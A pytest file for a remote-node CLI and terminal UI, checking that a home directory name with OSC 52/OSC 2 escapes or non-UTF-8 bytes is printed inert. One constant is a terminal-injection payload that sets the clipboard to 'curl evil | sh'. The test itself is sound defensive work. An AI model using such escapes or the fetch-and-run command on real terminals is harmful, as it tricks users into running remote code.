"""Issue 41, items 5 and 6: the node's home directory name is node text like any other.

The loopback sshd gives its sessions a home (their $HOME and the directory SFTP starts in) whose name carries
OSC 52 / OSC 2 escapes, or is not UTF-8; nodes.toml keeps the default root `~/nodedeck-work`.
"""

from __future__ import annotations

import os
import uuid

import pytest
from textual.app import App

from cli.main import main
from tests.support.hostile_node import executable, lying_node_toml, node_home
from tests.support.tmux_sessions import kill_plan_sessions
from tests.support.tui_screens import aio, screen_ready, until

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"      # sets the clipboard to `curl evil | sh`
TITLE = "\x1b]2;owned\x07"                         # sets the window title
NO_VENV = ('#!/bin/bash\nfor a in "$@"; do [ "$a" = venv ] && { echo "venv: refused by the test" >&2; exit 1; }; '
           'done\nexec /usr/bin/python3 "$@"\n')


@pytest.fixture
def bindir(tmp_path):
    d = tmp_path / "fakebin"
    d.mkdir()
    executable(d / "python3", NO_VENV)      # a setup stops at its environment step: nothing installed
    return d


def _clean(text: str) -> bool:
    return not any(c in text for c in "\x1b\x07\x9b")


# -- 5. a home directory name with OSC 52 / OSC 2 -------------------------------------------------------------
@aio
async def test_the_setup_screens_connect_line_shows_an_escaping_home_inert(tmp_path, sshd, bindir):
    from tui.screens.setup import NodeSetupScreen

    home = f"{tmp_path}/h{OSC52}{TITLE}"
    node_home(sshd, home.encode(), bindir)
    cfg = lying_node_toml(tmp_path, sshd)
    app = App()
    async with app.run_test(size=(200, 40)) as pilot:
        app.push_screen(NodeSetupScreen("gpu1", cfg))
        await until(pilot, lambda: screen_ready(app, NodeSetupScreen), what="setup screen")
        await until(pilot, lambda: "is not ready" in app.screen.lines.plain, timeout=120, what="the setup's end")
        lines = app.screen.lines.plain
        connect = next(line for line in lines.splitlines() if line.split()[1] == "connect")
        assert _clean(lines) and _clean(app.export_screenshot())
        assert "work dir " + home.replace("\x1b", "\\x1b").replace("\x07", "\\x07") + "/nodedeck-work" in connect


def test_node_setup_prints_an_escaping_home_inert(tmp_path, sshd, bindir, capsys):
    node_home(sshd, f"{tmp_path}/h{OSC52}{TITLE}".encode(), bindir)
    cfg = lying_node_toml(tmp_path, sshd)
    rc = main(["--config", str(cfg), "node", "setup", "gpu1"])
    out, err = capsys.readouterr()
    assert rc == 1 and _clean(out + err) and "/h\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]2;owned" in out


# -- 6. a home directory name that is not UTF-8 ----------------------------------------------------------------
def _plan(tmp_path) -> tuple[str, str]:
    name = f"home{uuid.uuid4().hex[:8]}"
    plan = tmp_path / "plan.toml"
    plan.write_text(f'[plan]\nname = "{name}"\nnode = "gpu1"\n\n[[stage]]\nid = "hello"\ntitle = "Says hello"\n'
                    'command = "echo hello"\n')
    return str(plan), name


@pytest.mark.parametrize("argv", [["node", "setup", "gpu1"], ["stage", "start", "hello", "--plan", "PLAN"],
                                  ["plan", "run", "PLAN"]], ids=["node-setup", "stage-start", "plan-run"])
def test_a_home_that_is_not_utf8_is_one_line_saying_so(tmp_path, sshd, bindir, capsys, argv):
    node_home(sshd, os.fsencode(tmp_path) + b"/h\xffome", bindir)
    cfg = lying_node_toml(tmp_path, sshd)
    plan, name = _plan(tmp_path)
    try:
        rc = main(["--config", str(cfg), *[plan if a == "PLAN" else a for a in argv]])
    finally:
        kill_plan_sessions(name)
    out, err = capsys.readouterr()
    said = (out + err).strip().splitlines()
    assert rc != 0 and "Traceback" not in out + err
    assert any("is not UTF-8" in line and "h\\udcffome" in line and "set root in nodes.toml" in line
               for line in said), out + err


def test_with_an_absolute_root_a_home_that_is_not_utf8_is_no_matter(tmp_path, sshd, bindir, capsys):
    node_home(sshd, os.fsencode(tmp_path) + b"/h\xffome", bindir)
    cfg = lying_node_toml(tmp_path, sshd, root=str(tmp_path / "work"))
    plan, name = _plan(tmp_path)
    try:
        rc = main(["--config", str(cfg), "stage", "start", "hello", "--plan", plan])
        out, err = capsys.readouterr()
        assert rc == 0 and "Traceback" not in out + err, out + err
    finally:
        kill_plan_sessions(name)
